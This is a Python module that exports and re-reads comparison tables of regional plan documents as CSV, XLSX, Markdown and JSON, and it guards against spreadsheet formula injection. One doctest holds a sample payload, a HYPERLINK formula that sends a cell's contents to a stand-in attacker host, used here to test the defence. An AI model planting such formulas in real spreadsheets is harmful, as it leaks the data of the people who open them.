"""Write a comparison table as CSV, XLSX, Markdown or JSON, in Swedish or English, with
quotes, sources and provenance; and read each back (so exports can be checked and reloaded).

The CSV opens cleanly in a spreadsheet: UTF-8 with a byte-order mark, row 1 the header,
one row per quote; its provenance is a file of its own (:func:`provenance_csv`). The XLSX
has a grid sheet (region × aspect: label word, first quote, source), a long sheet (the
CSV's rows) and a provenance sheet, each with column widths, a filter and a frozen
header. Labels and empty cells are words in the chosen language
(:mod:`compare.vocabulary`); a source is the document's URL or its path relative to the
corpus (or data) folder, never a server path.

Every value comes from documents, manifests or a user's topic, so none is trusted in a
spreadsheet: exports carry no control characters (:func:`plain`), and a CSV cell that
a spreadsheet would read as a formula (one opening with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return) is prefixed with an apostrophe (:func:`inert`); in XLSX every
text is a string cell, never a formula, with its text unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Sequence
from dataclasses import asdict, dataclass
from pathlib import Path, PurePosixPath
from typing import Any

from regionplans.compare.table import Cell, ComparisonTable, Evidence
from regionplans.compare.vocabulary import check_language, code_of, word
from regionplans.errors import ConfigError

log = logging.getLogger(__name__)

FORMATS: tuple[str, ...] = ("csv", "xlsx", "md", "json")
COLUMNS: tuple[str, ...] = (
    "row", "group", "column", "label", "triggers", "deadlines", "amounts", "confidence",
    "empty_reason", "searched_documents", "evidence_n", "quote", "title", "publisher",
    "heading_path", "page", "date", "source", "secondary",
)  # fmt: skip
# Column widths (characters) of the XLSX sheets.
WIDTHS = {"row": 28, "group": 11, "column": 28, "label": 22, "quote": 70, "title": 36, "source": 44,
          "heading_path": 30, "publisher": 24, "empty_reason": 18, "triggers": 20}  # fmt: skip


@dataclass(frozen=True, slots=True)
class ExportOptions:
    """How an export speaks and names its sources: ``lang`` (sv or en) for its words,
    ``roots`` the folders (corpus, data) a local source is named relative to."""

    lang: str = "en"
    roots: tuple[Path, ...] = ()

    def __post_init__(self) -> None:
        check_language(self.lang)


DEFAULT = ExportOptions()
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def plain(value: Any) -> Any:
    """``value`` without control characters (tab and line breaks kept), if it is text.

    >>> plain("Region" + chr(0) + " Skåne" + chr(8))
    'Region Skåne'
    """
    return _CONTROL.sub("", value) if isinstance(value, str) else value


def risky(value: Any) -> bool:
    """Whether a spreadsheet would take text ``value`` for a formula."""
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_START)


def inert(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet evaluates: control characters dropped, and
    an apostrophe before text that opens like a formula.

    >>> print(inert('=HYPERLINK("http://evil.example/?"&A2)'))
    '=HYPERLINK("http://evil.example/?"&A2)
    >>> inert(-3), inert("- en punkt")
    (-3, "'- en punkt")
    """
    value = plain(value)
    return "'" + value if risky(value) else value


def source_of(ev: Evidence, roots: Sequence[Path] = ()) -> str:
    """Where a quote can be read: the document's web address, else its path relative to
    one of ``roots`` (``uploads/plan.pdf``), else its file name; never a server path.

    >>> from types import SimpleNamespace as S
    >>> source_of(S(source_url=None, file_path="/srv/data/uploads/plan.pdf"), [Path("/srv/data")])
    'uploads/plan.pdf'
    >>> source_of(S(source_url=None, file_path="/tmp/x/plan.pdf"))
    'plan.pdf'
    """
    url = ev.source_url or ""
    if url.startswith(("http://", "https://")):
        return url
    return local_path(ev.file_path, roots)


def local_path(file_path: str, roots: Sequence[Path] = ()) -> str:
    """``file_path`` relative to the first of ``roots`` that holds it, else its name
    (a relative path stays as it is)."""
    path = Path(file_path)
    if not path.is_absolute():
        return PurePosixPath(*path.parts).as_posix() if ".." not in path.parts else path.name
    for root in roots:
        try:
            return path.resolve().relative_to(Path(root).resolve()).as_posix()
        except ValueError:
            continue
    return path.name


def cell_word(cell: Cell, lang: str) -> str:
    """A cell's label word, or why it is empty, in ``lang`` ("åtagande", "inga dokument")."""
    return word(cell.empty_reason or cell.label, lang)


def cell_rows(table: ComparisonTable, options: ExportOptions = DEFAULT) -> list[dict[str, Any]]:
    """One flat row per evidence passage (one row for an empty cell), values in words."""
    lg = options.lang
    out: list[dict[str, Any]] = []
    for c in table.cells:
        base = {
            "row": c.row, "group": word(c.group, lg), "column": c.column,
            "label": word(c.label, lg) if c.evidence else "",
            "triggers": "; ".join(c.triggers), "deadlines": "; ".join(c.deadlines),
            "amounts": "; ".join(c.amounts), "confidence": c.confidence if c.evidence else "",
            "empty_reason": word(c.empty_reason, lg) if c.empty_reason else "",
            "searched_documents": c.searched_documents,
        }  # fmt: skip
        if not c.evidence:
            out.append(base | {"evidence_n": 0, "quote": "", "title": "", "publisher": "",
                               "heading_path": "", "page": "", "date": "", "source": "",
                               "secondary": ""})  # fmt: skip
        for i, ev in enumerate(c.evidence, 1):
            out.append(base | {
                "evidence_n": i, "quote": ev.quote, "title": ev.title, "publisher": ev.publisher,
                "heading_path": " > ".join(ev.heading_path), "page": ev.page_number,
                "date": ev.date or "", "source": source_of(ev, options.roots),
                "secondary": word("yes" if ev.secondary else "no", lg),
            })  # fmt: skip
    return out


# The columns of the terminal table (``regionplans compare --format table``).
SUMMARY_COLUMNS: tuple[str, ...] = (
    "row", "column", "label", "triggers", "deadlines", "empty_reason", "quote", "source",
)  # fmt: skip
SUMMARY_QUOTE = 160  # characters of a quote in the terminal table


def summary_rows(
    table: ComparisonTable, options: ExportOptions = DEFAULT, *, show_misses: bool = False
) -> tuple[list[str], list[dict[str, Any]]]:
    """The terminal table: headings, then one row per cell keyed by them, with its label
    word (or why it is empty), its first quote and that quote's source, in the options'
    language; ``show_misses`` shows a cell with nothing relevant its closest miss."""
    lg = options.lang
    head = [word(f"col_{c}", lg) for c in SUMMARY_COLUMNS]
    rows = []
    for c in table.cells:
        ev = c.evidence[0] if c.evidence else (c.closest_miss if show_misses else None)
        why = word(c.empty_reason, lg) if c.empty_reason else ""
        if c.empty_reason == "nothing_relevant":
            why += f" ({c.searched_documents} {word('col_searched_documents', lg)})"
        miss = f"[{word('closest_miss', lg)}] " if ev is not None and not c.evidence else ""
        secondary = f" ({word('secondary_source', lg)})" if ev is not None and ev.secondary else ""
        values = (c.row, c.column, word(c.label, lg) if c.evidence else "", ", ".join(c.triggers),
                  ", ".join(c.deadlines), why, miss + ev.quote[:SUMMARY_QUOTE] if ev else "",
                  ev.title + secondary if ev else "")  # fmt: skip
        rows.append(dict(zip(head, values, strict=True)))
    return head, rows


def grid_rows(
    table: ComparisonTable, options: ExportOptions = DEFAULT
) -> tuple[list[str], list[list[Any]]]:
    """The region × aspect grid: a header, then per row its name, group and, for each
    aspect, the label word (or why it is empty), the first quote and its source."""
    lg = options.lang
    head = [word("col_row", lg), word("col_group", lg)]
    for col in table.columns:
        head += [f"{col}: {word('col_label', lg)}", f"{col}: {word('first_quote', lg)}",
                 f"{col}: {word('col_source', lg)}"]  # fmt: skip
    body: list[list[Any]] = []
    for row, group in table.rows:
        line: list[Any] = [row, word(group, lg)]
        for col in table.columns:
            c = table.cell(row, col)
            first = c.evidence[0] if c.evidence else None
            line += [
                cell_word(c, lg),
                first.quote if first else "",
                source_of(first, options.roots) if first else "",
            ]
        body.append(line)
    return head, body


def _provenance_lines(table: ComparisonTable) -> list[tuple[str, str]]:
    return [(k, json.dumps(v, ensure_ascii=False) if not isinstance(v, str) else v)
            for k, v in table.provenance.items()]  # fmt: skip


def to_json(table: ComparisonTable, options: ExportOptions = DEFAULT) -> str:
    """The table as JSON: topic, aspects, rows, cells (with evidence, codes as in the
    library and each cell's label word) and provenance; sources as in the other formats."""
    cells = []
    for c in table.cells:
        data = asdict(c)
        data["label_word"] = cell_word(c, options.lang)
        for ev, d in zip(c.evidence, data["evidence"], strict=True):
            d["file_path"] = local_path(ev.file_path, options.roots)
        if c.closest_miss is not None:
            data["closest_miss"]["file_path"] = local_path(c.closest_miss.file_path, options.roots)
        cells.append(data)
    data = {"topic": table.topic, "aspects": list(table.aspects), "rows": [list(r) for r in table.rows],
            "language": options.lang, "cells": cells, "provenance": table.provenance}  # fmt: skip
    return json.dumps(data, ensure_ascii=False, indent=2)


def _csv(head: Sequence[str], rows: Sequence[Sequence[Any]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([inert(h) for h in head])
    writer.writerows([inert(v) for v in row] for row in rows)
    return buf.getvalue()


def to_csv(table: ComparisonTable, options: ExportOptions = DEFAULT) -> str:
    """CSV: the header, then one line per evidence passage (provenance: :func:`provenance_csv`)."""
    rows = cell_rows(table, options)
    return _csv(
        [word(f"col_{c}", options.lang) for c in COLUMNS], [[r[c] for c in COLUMNS] for r in rows]
    )


def provenance_csv(table: ComparisonTable, options: ExportOptions = DEFAULT) -> str:
    """How the table was made, as a two-column CSV (key, value)."""
    return _csv([word("key", options.lang), word("value", options.lang)], _provenance_lines(table))


def _md(text: Any) -> str:
    return str(plain(text)).replace("|", "\\|").replace("\n", " ")


def to_md(table: ComparisonTable, options: ExportOptions = DEFAULT) -> str:
    """Markdown: an overview grid (label word per cell), then every cell with its quotes."""
    lg = options.lang
    cols = table.columns
    lines = [f"# {_md(table.topic)}", "",
             f"| {word('col_row', lg)} | {word('col_group', lg)} | " + " | ".join(_md(c) for c in cols) + " |",
             "|---|---|" + "---|" * len(cols)]  # fmt: skip
    for row, group in table.rows:
        vals = [_md(cell_word(table.cell(row, col), lg)) for col in cols]
        lines.append(f"| {_md(row)} | {word(group, lg)} | " + " | ".join(vals) + " |")
    lines += ["", f"## {word('evidence', lg)}", ""]
    for c in table.cells:
        if not c.evidence:
            continue
        lines.append(f"### {_md(c.row)} — {_md(c.column)}: {cell_word(c, lg)}")
        for key, values in (
            ("col_triggers", c.triggers),
            ("col_deadlines", c.deadlines),
            ("col_amounts", c.amounts),
        ):
            if values:
                lines.append(f"{word(key, lg).capitalize()}: {_md(', '.join(values))}")
        lines.append(f"{word('col_confidence', lg).capitalize()}: {c.confidence}")
        for ev in c.evidence:
            sec = f" ({word('secondary_source', lg)}: {_md(ev.publisher)})" if ev.secondary else ""
            lines.append(f"> {_md(ev.quote)}")
            lines.append(
                f"— *{_md(ev.title)}*{sec}, {_md(' > '.join(ev.heading_path))} {word('page', lg)} "
                f"{ev.page_number}, {ev.date or word('undated', lg)}, {_md(source_of(ev, options.roots))}"
            )
            lines.append("")
    lines += [f"## {word('provenance', lg)}", ""] + [
        f"- {k}: {_md(v)}" for k, v in _provenance_lines(table)
    ]
    return "\n".join(lines) + "\n"


def write_xlsx(table: ComparisonTable, path: str | Path, options: ExportOptions = DEFAULT) -> Path:
    """An XLSX workbook with three sheets: the grid, the long sheet and the provenance."""
    from openpyxl import Workbook

    lg = options.lang
    wb = Workbook()
    grid = wb.active
    assert grid is not None  # a new workbook always has its first sheet
    grid.title = word("sheet_grid", lg)
    head, body = grid_rows(table, options)
    widths = [WIDTHS["row"], WIDTHS["group"]] + [
        WIDTHS["label"],
        WIDTHS["quote"],
        WIDTHS["source"],
    ] * len(table.columns)
    _sheet(grid, head, body, widths)
    long = wb.create_sheet(word("sheet_long", lg))
    rows = cell_rows(table, options)
    _sheet(long, [word(f"col_{c}", lg) for c in COLUMNS], [[r[c] for c in COLUMNS] for r in rows],
           [WIDTHS.get(c, 12) for c in COLUMNS])  # fmt: skip
    prov = wb.create_sheet(word("sheet_provenance", lg))
    _sheet(prov, [word("key", lg), word("value", lg)], _provenance_lines(table), [22, 100])
    path = Path(path)
    wb.save(path)
    return path


def _sheet(
    ws: Any, head: Sequence[Any], rows: Sequence[Sequence[Any]], widths: Sequence[int]
) -> None:
    """Fill ``ws``: a bold frozen header with a filter, wrapped long text, set widths."""
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    _append(ws, list(head))
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for row in rows:
        _append(ws, list(row))
    wrap = Alignment(wrap_text=True, vertical="top")
    for i, width in enumerate(widths, 1):
        letter = get_column_letter(i)
        ws.column_dimensions[letter].width = width
        if width >= 40:
            for cell in ws[letter][1:]:
                cell.alignment = wrap
    ws.freeze_panes = "B2"
    ws.auto_filter.ref = ws.dimensions


def _append(sheet: Any, values: list[Any]) -> None:
    """A row of string cells that are never formulas (openpyxl makes any text opening
    with "=" one); cells that look like one are marked as text for Excel too."""
    sheet.append([plain(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if risky(cell.value):
                cell.quotePrefix = True


def provenance_path(path: str | Path) -> Path:
    """Where the CSV export at ``path`` keeps its provenance (``gms-provenance.csv``)."""
    path = Path(path)
    return path.with_name(f"{path.stem}-provenance.csv")


def write(
    table: ComparisonTable, path: str | Path, fmt: str, options: ExportOptions = DEFAULT
) -> Path:
    """Write ``table`` to ``path`` in ``fmt`` (csv, xlsx, md, json); a CSV gets its
    provenance beside it (:func:`provenance_path`)."""
    path = Path(path)
    if fmt == "xlsx":
        return write_xlsx(table, path, options)
    text = {"csv": to_csv, "md": to_md, "json": to_json}.get(fmt)
    if text is None:
        raise ConfigError(f"unknown export format {fmt!r}; choose one of {', '.join(FORMATS)}")
    # A byte-order mark lets a spreadsheet read the CSV as UTF-8 ("Örebro", not "Ã–rebro").
    encoding = "utf-8-sig" if fmt == "csv" else "utf-8"
    path.write_text(text(table, options), encoding=encoding, newline="")
    if fmt == "csv":
        provenance_path(path).write_text(
            provenance_csv(table, options), encoding=encoding, newline=""
        )
    return path


def write_each(table: ComparisonTable, folder: Path, formats: Sequence[str] = FORMATS,
               *, stem: str = "table", options: ExportOptions = DEFAULT) -> tuple[list[Path], list[tuple[str, str]]]:  # fmt: skip
    """Write ``table`` once per format into ``folder``, each independently of the others:
    the files written (a CSV's provenance file after it), and ``(format, error)`` for
    each format that failed."""
    written: list[Path] = []
    failed: list[tuple[str, str]] = []
    for fmt in formats:
        try:
            written.append(write(table, folder / f"{stem}.{fmt}", fmt, options))
            if fmt == "csv":
                written.append(provenance_path(written[-1]))
        except Exception as exc:  # noqa: BLE001 - one export failing must not cost the others
            log.warning("cannot write the %s export of %r: %s", fmt, table.topic, exc)
            failed.append((fmt, f"{type(exc).__name__}: {exc}"))
    return written, failed


def read_rows(path: str | Path) -> list[dict[str, str]]:
    """Read the flat evidence rows back from a CSV or XLSX export (its long sheet), keyed
    by column code (``quote``, ``label``) whichever language it was written in."""
    path = Path(path)
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        book = load_workbook(path, read_only=True)
        values = [list(r) for r in book.worksheets[1].iter_rows(values_only=True)]
    else:
        values = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    head = [code_of(str(h)) or str(h) for h in values[0]]
    return [
        {h: ("" if v is None else str(v)) for h, v in zip(head, r, strict=False)}
        for r in values[1:]
    ]


__all__ = ["FORMATS", "Cell", "ExportOptions", "cell_rows", "cell_word", "grid_rows", "inert", "plain",
           "local_path", "provenance_csv", "provenance_path", "read_rows", "source_of", "summary_rows", "to_csv", "to_json", "to_md", "write",
           "write_each", "write_xlsx"]  # fmt: skip
